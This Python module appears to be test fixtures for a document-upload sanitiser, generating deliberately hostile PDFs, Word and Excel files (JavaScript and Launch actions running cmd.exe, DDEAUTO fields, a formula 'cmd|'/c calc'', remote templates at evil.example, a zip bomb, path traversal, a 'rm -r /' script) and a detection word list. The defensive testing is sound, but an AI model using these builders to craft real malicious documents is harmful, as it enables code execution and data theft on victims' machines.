"""Files as nobody should send them, made when a test asks for one."""

import io
import re
import zipfile

import pikepdf
from PIL import Image

CANARY = "Kanariefil-Zq7"
DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
XLSX_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
PLACE = 0x8825


def picture(form: str = "JPEG", size: tuple[int, int] = (40, 30), **more) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, "seagreen").save(out, form, **more)
    return out.getvalue()


def photo_with_place() -> bytes:
    """Turned a quarter, with the place where it was taken, the owner's name, and a comment."""
    exif = Image.Exif()
    exif[0x0112] = 6
    exif[0x013B] = CANARY
    exif.get_ifd(PLACE).update({1: "N", 2: (55.0, 36.0, 17.0), 3: "E", 4: (13.0, 0.0, 13.0)})
    return picture(exif=exif, comment=CANARY.encode())


def huge_picture() -> bytes:
    out = io.BytesIO()
    Image.new("1", (20_000, 10_000)).save(out, "PNG")
    return out.getvalue()


def pdf(**root) -> bytes:
    """One empty page, its author, and what is hung on its root."""
    document, out = pikepdf.new(), io.BytesIO()
    document.add_blank_page()
    document.docinfo["/Author"] = CANARY
    with document.open_metadata() as told:
        told["dc:creator"] = [CANARY]
    for name, value in root.items():
        document.Root[f"/{name}"] = value
    document.save(out)
    return out.getvalue()


def pdf_with_script() -> bytes:
    return pdf(OpenAction=pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert('hej')"))


def pdf_with_launch(**more) -> bytes:
    document, out = pikepdf.new(), io.BytesIO()
    page = document.add_blank_page().obj
    act = pikepdf.Dictionary(S=pikepdf.Name.Launch, F="cmd.exe", **more)
    link = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], A=act)
    page.Annots = pikepdf.Array([link])
    document.save(out)
    return out.getvalue()


def pdf_from_elsewhere() -> bytes:
    document, out = pikepdf.new(), io.BytesIO()
    page = document.add_blank_page().obj
    page.Contents = pikepdf.Stream(document, b"", F="https://e.example/page")
    document.save(out)
    return out.getvalue()


def pdf_with_a_file_inside() -> bytes:
    document, out = pikepdf.new(), io.BytesIO()
    document.add_blank_page()
    document.attachments["cmd.exe"] = b"MZ"
    document.save(out)
    return out.getvalue()


def signed_pdf(**root) -> bytes:
    signature = pikepdf.Dictionary(Type=pikepdf.Name.Sig, ByteRange=[0, 1, 2, 3], Contents=b"\0" * 8)
    return pdf(Signed=signature, **root)


def locked_pdf() -> bytes:
    document, out = pikepdf.new(), io.BytesIO()
    document.add_blank_page()
    document.save(out, encryption=pikepdf.Encryption(owner="a", user="b"))
    return out.getvalue()


CORE = "application/vnd.openxmlformats-package.core-properties+xml"
WORDPROCESSING = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def related(kind: str, target: str, more: str = "") -> str:
    return f'<Relationship Id="7" Type="x/{kind}" Target="{target}" {more}/>'


def docx(*, main: str = DOCX_MAIN, body: str = "<w:p/>", rels: str = "", **parts: bytes) -> bytes:
    """`parts` are further entries; two underscores in a name stand for a slash, one more for a dot."""
    types = (
        f'<Types><Override PartName="/word/document.xml" ContentType="{main}"/>'
        f'<Override PartName="/docProps/core.xml" ContentType="{CORE}"/></Types>'
    )
    entries = {
        "[Content_Types].xml": types.encode(),
        "_rels/.rels": b'<Relationships><Relationship Id="1" Type="x/officeDocument" Target="word/document.xml"/>'
        b'<Relationship Id="2" Type="x/core-properties" Target="docProps/core.xml"/></Relationships>',
        "word/document.xml": f'<w:document xmlns:w="{WORDPROCESSING}" xmlns:x="x" xmlns:mc="mc" xmlns:r="r">{body}</w:document>'.encode(),
        "word/_rels/document.xml.rels": f"<Relationships>{rels}</Relationships>".encode(),
        "docProps/core.xml": f"<x>{CANARY}</x>".encode(),
        **{name.replace("__", "/").replace("_DOT_", "."): content for name, content in parts.items()},
    }
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        for name, content in entries.items():
            made.writestr(name, content)
    return out.getvalue()


def field(says: str, shows: str = "1") -> str:
    """A field of a letter; `says` may hold other fields."""
    told = "".join(
        one if one.startswith("<") else f"<w:instrText>{one}</w:instrText>" for one in re.split("(<.*>)", says)
    )
    marks = [f'<w:fldChar w:fldCharType="{kind}"/>' for kind in ("begin", "separate", "end")]
    return f"{marks[0]}{told}{marks[1]}{shows}{marks[2]}"


def bomb() -> bytes:
    return docx(word__media__a_DOT_gif=b"\0" * (20 * 1024 * 1024))


OUTSIDE = '<Relationship Id="9" Type="x/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>'
REFUSED = {
    "nothing": (lambda: b"", "empty"),
    "a page as a picture": (lambda: b"<!doctype html><script>alert(1)</script>", "unknown"),
    "a drawing with a script": (lambda: b'<svg xmlns="http://www.w3.org/2000/svg"><script/></svg>', "unknown"),
    "a program": (lambda: b"MZ\x90\x00\x03\x00\x00\x00PE", "unknown"),
    "a program of letters": (lambda: b"MZ, and then letters only", "unknown"),
    "a script": (lambda: b"#!/bin/sh\nrm -r /", "unknown"),
    "a PDF behind other text": (lambda: b"hello %PDF-1.7", "unknown"),
    "a mail": (lambda: b"MIME-Version: 1.0\nContent-Type: text/html", "unknown"),
    "text with bytes of other things": (lambda: b"hello\x00\x01", "unknown"),
    "text in another coding": (lambda: "Malmö".encode("latin-1"), "unknown"),
    "the beginning of a picture": (lambda: picture()[:60], "broken"),
    "a page behind the mark of a picture": (lambda: b"\xff\xd8\xff<script>alert(1)</script>", "broken"),
    "a picture of 200 million points": (huge_picture, "too_many_pixels"),
    "a sound": (lambda: b"RIFF\x00\x00\x00\x00WAVEfmt ", "broken"),
    "the mark of a PDF alone": (lambda: b"%PDF-1.7\n<script>", "broken"),
    "a locked PDF": (locked_pdf, "locked"),
    "a signed PDF with a script": (lambda: signed_pdf(AA=pikepdf.Dictionary()), "signed_active"),
    "a form that is a program": (lambda: pdf(AcroForm=pikepdf.Dictionary(XFA=b"<x/>")), "active"),
    "a PDF whose page lies elsewhere": (pdf_from_elsewhere, "fetches"),
    "a zip": (lambda: _zip({"a.txt": b"a"}), "unknown"),
    "a zip bomb": (bomb, "unpacks"),
    "a name that climbs": (lambda: _zip({"../a": b"a"}), "broken"),
    "macros": (lambda: docx(word__vbaProject_DOT_bin=b"x"), "macros"),
    "macros by name": (lambda: docx(main=DOCX_MAIN.replace("document.main", "document.macroEnabled.main")), "macros"),
    "an enclosed program": (lambda: docx(word__embeddings__a_DOT_xlsx=b"x"), "active"),
    "an entity": (lambda: docx(word__a_DOT_xml=b'<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'), "active"),
    "a template from elsewhere": (lambda: docx(rels=OUTSIDE), "fetches"),
    "a field beside another that starts a program": (
        lambda: docx(body=field("PAGE ") + field("DDEAUTO c:\\cmd.exe")), "fetches",
    ),
    "a field whose name another field puts together": (
        lambda: docx(body=field(field("QUOTE 68 68 69") + " c:\\cmd.exe")), "fetches",
    ),
    "a field inside the result of another that starts a program": (
        lambda: docx(body=field("IF 1 = 1 ", shows=field("DDE x y"))), "fetches",
    ),
    "a field behind the name of another in a branch that is left out": (
        lambda: docx(body="<mc:AlternateContent><mc:Choice><w:instrText>QUOTE </w:instrText></mc:Choice></mc:AlternateContent>"
                     + field("INCLUDEPICTURE https://e.example")), "fetches",
    ),
    "a field begun in a branch and ended outside": (
        lambda: docx(body='<mc:Choice><w:fldChar w:fldCharType="begin"/><w:instrText>QUOTE </w:instrText></mc:Choice>'
                     '<w:instrText>DDE a</w:instrText><w:fldChar w:fldCharType="end"/>'), "fetches",
    ),
    "a name with a letter that is left out": (
        lambda: docx(body="<w:instrText>INC<x:q>q</x:q>LUDEPICTURE a</w:instrText>"), "fetches",
    ),
    "a part of a field from another vocabulary": (
        lambda: docx(body="<x:instrText>QUOTE </x:instrText><w:instrText>DDE a</w:instrText>"), "fetches",
    ),
    "a mark of a field that says two things": (
        lambda: docx(body='<w:fldChar x:fldCharType="separate" w:fldCharType="begin"/>'), "fetches",
    ),
    "a name behind one that was deleted": (
        lambda: docx(body="<w:delInstrText>QUOTE </w:delInstrText><w:instrText>DDE a</w:instrText>"), "fetches",
    ),
    "a field that nobody knows": (lambda: docx(body=field('RD "https://e.example/a.docx"')), "fetches"),
    "a link to another machine's files": (lambda: docx(body=field('HYPERLINK "file://///e.example/a"')), "fetches"),
    "a link to another machine's files among the relations": (
        lambda: docx(rels=related("hyperlink", "file:///\\\\e.example\\a", 'TargetMode="External"')), "fetches",
    ),
    "a picture from where a link leads": (
        lambda: docx(body='<a:blip xmlns:a="a" r:link="7"/>',
                     rels=related("hyperlink", "https://e.example/a", 'TargetMode="External"')), "fetches",
    ),
    "a picture that lies elsewhere without saying so": (
        lambda: docx(rels=related("image", "https://e.example/a.png")), "fetches",
    ),
    "an old drawing from elsewhere": (
        lambda: docx(body='<v:imagedata xmlns:v="v" src="https://e.example/a.png"/>'), "fetches",
    ),
    "a letter in a letter": (
        lambda: docx(rels=related("aFChunk", "media/x.emf"), word__media__x_DOT_emf=docx()), "active",
    ),
    "a letter called a picture": (lambda: docx(word__media__x_DOT_emf=docx()), "broken"),
    "a page called a picture": (
        lambda: docx(rels=related("image", "x.xml"), word__x_DOT_xml=b"<svg/>"), "active",
    ),
    "letters made from a register elsewhere": (lambda: docx(body="<w:mailMerge/>"), "active"),
    "a connection under another name": (
        lambda: docx(main=XLSX_MAIN, rels=related("connections", "c.xml"), word__c_DOT_xml=b"<c/>"), "active",
    ),
    "a sheet that asks in a column": (
        lambda: docx(main=XLSX_MAIN, xl__t_DOT_xml=b"<t><calculatedColumnFormula>WEBSERVICE(A1)</calculatedColumnFormula></t>"),
        "fetches",
    ),
    "a function with a letter that is left out": (
        lambda: docx(main=XLSX_MAIN, xl__s_DOT_xml=b"<s xmlns:x='x'><f>WEB<x:q>q</x:q>SERVICE(A1)</f></s>"), "fetches",
    ),
    "a program without quotes": (lambda: docx(main=XLSX_MAIN, xl__s_DOT_xml=b"<s><f>calc|x!A1</f></s>"), "fetches"),
    "a format that nobody knows": (
        lambda: docx(main=DOCX_MAIN + '"/><Override PartName="/word/a.xml" ContentType="application/x-flash'), "active",
    ),
    "a field that starts a program": (lambda: docx(body="<w:instrText>DDEAUTO c:\\cmd.exe</w:instrText>"), "fetches"),
    "a link field in pieces": (
        lambda: docx(body="<w:p><w:instrText>LI</w:instrText><w:instrText>NK Excel.Sheet a</w:instrText></w:p>"), "fetches",
    ),
    "a sheet that asks another machine": (
        lambda: docx(main=XLSX_MAIN, xl__s_DOT_xml=b"<x:s xmlns:x='x'><x:f>_xlfn.WEBSERVICE(&quot;https://e.example&quot;)</x:f></x:s>"),
        "fetches",
    ),
    "a sheet that starts a program": (
        lambda: docx(main=XLSX_MAIN, xl__s_DOT_xml=b"<s><f>cmd|'/c calc'!A0</f></s>"), "fetches",
    ),
    "a name that stands for another machine": (
        lambda: docx(main=XLSX_MAIN, xl__s_DOT_xml=b"<s><definedName>IMAGE (A1)</definedName></s>"), "fetches",
    ),
    "a page enclosed in a letter": (
        lambda: docx(main=DOCX_MAIN + '"/><Override PartName="/word/a.xml" ContentType="application/xhtml+xml'), "active",
    ),
}  # fmt: skip
DISARMED = {
    "a photo with its place": (photo_with_place, "jpg"),
    "a picture that is a page too": (lambda: picture("PNG") + b"<script>alert(1)</script>" + CANARY.encode(), "png"),
    "a PDF with a script": (pdf_with_script, "pdf"),
    "a PDF that starts a program": (pdf_with_launch, "pdf"),
    "a PDF that starts a program under another name": (
        lambda: pdf_with_launch(P=1, Win=pikepdf.Dictionary(F="cmd.exe")),
        "pdf",
    ),
    "a PDF with a file inside": (pdf_with_a_file_inside, "pdf"),
    "a PDF with a zip behind it": (lambda: pdf() + _zip({"a": CANARY.encode()}), "pdf"),
    "a letter with its properties": (docx, "docx"),
    "a sheet that reckons": (
        lambda: docx(main=XLSX_MAIN, xl__s_DOT_xml=b'<s><f>SUM(A1:A9)*IF(B1="LINK",1,2)</f></s>'),
        "xlsx",
    ),
    "a letter with a page number and a link": (
        lambda: docx(body=field("PAGE ") + field('HYPERLINK "https://a.se/link" ')),
        "docx",
    ),
    "a letter with a condition": (lambda: docx(body=field("IF " + field("PAGE ") + " = 1")), "docx"),
    "a letter whose author stands under another name": (
        lambda: docx(rels=related("core-properties", "p.xml"), word__p_DOT_xml=f"<x>{CANARY}</x>".encode()),
        "docx",
    ),
    "a letter with a number of the page in both branches": (
        lambda: docx(
            body=f"<mc:AlternateContent><mc:Choice>{field('PAGE ')}</mc:Choice><mc:Fallback>{field('PAGE ')}"
            "</mc:Fallback></mc:AlternateContent>"
        ),
        "docx",
    ),
    "a sheet that says a bar": (
        lambda: docx(main=XLSX_MAIN, xl__s_DOT_xml=b'<s><f>A1&amp;"a|b"</f></s>'),
        "xlsx",
    ),
    "a letter with a link": (
        lambda: docx(
            body='<w:hyperlink r:id="7"/>', rels=related("hyperlink", "https://a.se", 'TargetMode="External"')
        ),
        "docx",
    ),
    "a letter with a photo": (lambda: docx(word__media__a_DOT_jpg=photo_with_place()), "docx"),
}


def _zip(entries: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        for name, content in entries.items():
            made.writestr(name, content)
    return out.getvalue()


WORDS = (CANARY.encode(), b"<script", b"JavaScript", b"alert", b"Launch", b"cmd.exe", b"Exif")


def said(content: bytes) -> set[bytes]:
    """What it still tells or could do, packed or not."""
    told = b"".join(_opened(content))
    return {word for word in WORDS if word in told}


def _opened(content: bytes):
    """The bytes as they stand, and unpacked where something packs them."""
    yield content
    if content.startswith(b"PK"):
        with zipfile.ZipFile(io.BytesIO(content)) as packed:
            yield from (packed.read(name) for name in packed.namelist())
    if content.startswith(b"%PDF"):
        with pikepdf.open(io.BytesIO(content)) as document:
            yield from (repr(one).encode() for one in document.objects)
            yield repr(document.trailer).encode()
